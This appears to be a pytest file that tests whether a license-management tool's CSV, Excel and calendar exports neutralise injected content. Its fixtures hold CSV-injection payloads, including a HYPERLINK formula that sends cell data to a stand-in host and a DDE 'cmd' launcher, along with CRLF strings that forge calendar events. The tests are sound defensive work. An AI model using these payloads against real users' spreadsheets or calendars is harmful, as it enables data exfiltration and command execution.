"""Hostile text in the exports: formulas stay text in CSV and Excel, nothing in a calendar file breaks it.

Company names, notes and numbers below are our own fictional attacks, written the ways a spreadsheet
or a calendar program would obey them.
"""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import re
from pathlib import Path

import pytest

from licdesk.cli import run
from licdesk.domain import deadlines as dl
from licdesk.domain import review as rv
from licdesk.store import Store
from tests.unit.test_review_domain import fictional_license
from tests.unit.test_store_samples import rich_license

TODAY = dt.date(2026, 6, 1)

# Every start a spreadsheet reads as a formula (OWASP CSV injection): =, +, -, @, tab, CR.
FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"点击")',
    "+SUM(1,2)*示例",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1 示例科技",
    "\r=1+1 示例网络",
]


def spreadsheet_safe(value: object) -> bool:
    """A cell value no spreadsheet runs: not text, a plain whole number (days left: -427), or text that
    does not start like a formula."""
    if not isinstance(value, str) or re.fullmatch(r"-?[0-9]+", value):
        return True
    return not value.startswith(("=", "+", "-", "@", "\t", "\r"))


def hostile_licenses() -> list:
    return [rich_license(number=f"京B2-2099{index:04d}", company=company) for index, company in enumerate(FORMULAS, 1)]


@pytest.fixture
def hostile_library(db_path: Path) -> Path:
    with Store.open(db_path) as store:
        for lic in hostile_licenses():
            store.save(lic)
    return db_path


def test_the_excel_export_writes_every_hostile_company_as_neutralised_text(hostile_library: Path, tmp_path: Path,
                                                                         capsys) -> None:  # noqa: ANN001
    from openpyxl import load_workbook

    target = tmp_path / "library.xlsx"
    assert run(["export", "--format", "xlsx", "-o", str(target), "--today", TODAY.isoformat()]) == 0
    book = load_workbook(target)
    companies = 0
    for sheet in book.worksheets:  # 许可证 and 合规期限: every row of both
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    assert spreadsheet_safe(cell.value), (sheet.title, cell.coordinate, cell.value)
                    companies += "示例" in cell.value and cell.value.startswith("'")
    assert companies >= len(FORMULAS) * 2  # the library row and at least one deadline row of each
    library = book["许可证"]
    names = [library.cell(row=r, column=2).value for r in range(2, library.max_row + 1)]
    assert "'=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")" in names  # shown as written, after the quote


def test_the_csv_exports_neutralise_formulas(hostile_library: Path, tmp_path: Path, capsys) -> None:  # noqa: ANN001
    target = tmp_path / "library.csv"
    assert run(["export", "--format", "csv", "-o", str(target), "--today", TODAY.isoformat()]) == 0
    cells = [cell for row in csv.reader(io.StringIO(target.read_text("utf-8-sig"), newline="")) for cell in row]
    assert all(spreadsheet_safe(cell) for cell in cells), [c for c in cells if not spreadsheet_safe(c)]
    assert any(cell.startswith("'=HYPERLINK(") for cell in cells)

    from licdesk.exports import write_deadlines_csv

    items = dl.all_obligations(hostile_licenses(), TODAY)
    path = write_deadlines_csv(items, tmp_path / "due.csv", TODAY)
    rows = list(csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline="")))
    assert len(rows) == len(items) + 1
    assert all(spreadsheet_safe(cell) for row in rows for cell in row)
    assert sum(cell.startswith("'@SUM") for row in rows for cell in row) >= 1


def test_the_excel_writer_neutralises_tab_and_cr_starts_given_directly(tmp_path: Path) -> None:
    """The writers are safe on their own, also for text that never went through the store."""
    from openpyxl import load_workbook

    from licdesk.exports import write_workbook

    path = write_workbook(tmp_path / "direct.xlsx", TODAY, hostile_licenses(),
                          dl.all_obligations(hostile_licenses(), TODAY))
    book = load_workbook(path)
    values = [c.value for sheet in book.worksheets for row in sheet.iter_rows(min_row=2) for c in row]
    assert "'\t=1+1 示例科技" in values
    assert any(isinstance(v, str) and v.startswith("'") and v.endswith("=1+1 示例网络") for v in values)  # XML reads CR as LF
    assert all(spreadsheet_safe(v) for v in values)


def test_the_review_report_workbook_neutralises_notes_and_names(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    from licdesk.exports.review_xlsx import write_review_workbook

    lic = dataclasses.replace(fictional_license(), company="@示例公司")
    items = rv.review_items(lic)
    reviews = {item.key: rv.ClauseReview(item.key, rv.text_hash(item.text), rv.NOT_COMPLIANT, note=note,
                                         responsible="-张三")
               for item, note in zip(items, ["+整改中", "-已报送", "=1+2", "@示例"])}
    round_ = rv.ReviewRound("round-hostile-0001", lic.number, dt.datetime(2026, 5, 1, tzinfo=dt.timezone.utc),
                            reviews=reviews)
    book = load_workbook(write_review_workbook(tmp_path / "review.xlsx", lic, round_))
    values = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert all(spreadsheet_safe(c.value) and c.data_type == "s" for c in values), \
        [c.value for c in values if not spreadsheet_safe(c.value)]
    assert {"'+整改中", "'-已报送", "'=1+2", "'@示例", "'-张三", "'@示例公司"} <= {c.value for c in values}


# -- the calendar ---------------------------------------------------------------------------------
CALENDAR_ATTACKS = [
    ("京B2-20990101\r", "甲示例公司\rEND:VEVENT\rBEGIN:VEVENT\rUID:planted@x.example\rSUMMARY:假事项"),
    ("京B2-20990102", "乙示例公司\r\nBEGIN:VEVENT\r\nSUMMARY:假的截止日期"),
    ("京B2-20990103", "丙示例\x1b[2J公司;,\\分号逗号反斜杠"),
    ("京B2-20990104", "丁示例\u202e司公技科\x00零字节"),
]


def test_no_calendar_text_can_start_a_new_event_or_carry_a_control_character() -> None:
    icalendar = pytest.importorskip("icalendar")
    from licdesk.exports.ics import calendar_text

    licenses = [rich_license(number=number, company=company) for number, company in CALENDAR_ATTACKS]
    items = [o for o in dl.all_obligations(licenses, TODAY) if o.status != dl.DONE]
    text = calendar_text(items, stamp=dt.datetime(2026, 6, 1, 8, 0, tzinfo=dt.timezone.utc))
    raw = text.encode("utf-8")
    assert b"\r" not in raw.replace(b"\r\n", b"")  # no bare CR: every line ends in CRLF, nothing else breaks one
    assert not any(0 < b < 32 and b not in (10, 13) for b in raw) and "\u202e" not in text
    physical = text.split("\r\n")
    assert sum(line == "BEGIN:VEVENT" for line in physical) == len(items)
    assert not any(line.startswith(("UID:planted", "SUMMARY:假")) for line in physical)
    events = list(icalendar.Calendar.from_ical(raw).walk("VEVENT"))
    assert len(events) == len(items)
    assert {str(e["UID"]) for e in events} == {o.uid for o in items}
    summaries = " ".join(str(e["DESCRIPTION"]) for e in events)
    assert "丙示例[2J公司;,\\分号逗号反斜杠" in summaries  # escaped by the library, read back as written
